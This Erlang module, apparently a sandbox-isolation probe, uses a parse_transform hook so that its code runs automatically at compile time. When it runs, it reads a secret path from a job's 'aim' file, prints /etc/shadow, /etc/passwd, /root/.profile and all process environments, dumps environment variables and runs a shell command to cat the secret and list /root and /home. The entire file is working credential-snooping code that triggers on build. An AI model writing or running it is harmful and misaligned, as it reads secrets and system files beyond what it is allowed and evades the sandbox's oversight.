%% Looks for what it should not see: files, environments, its own descriptors.
-module(act).
-export([act/0, parse_transform/2]).

parse_transform(Forms, _Options) ->
    act(),
    Forms.

act() ->
    {ok, Aim} = file:read_file(filename:join(os:getenv("BOOKTUNE_JOB"), "aim")),
    [Secret | _] = string:lexemes(binary_to_list(Aim), "\n"),
    Paths = [Secret, "/etc/shadow", "/etc/passwd", "/root/.profile", "/proc/1/environ"],
    [io:format("~s: ~p~n", [Path, file:read_file(Path)]) || Path <- Paths ++ filelib:wildcard("/proc/*/environ")],
    io:format("~p~n", [os:getenv()]),
    io:format("~s~n", [os:cmd("cat " ++ Secret ++ "; set; ls -la /home /root /proc/*/cwd/ 2>/dev/null")]),
    io:format("tried~n").
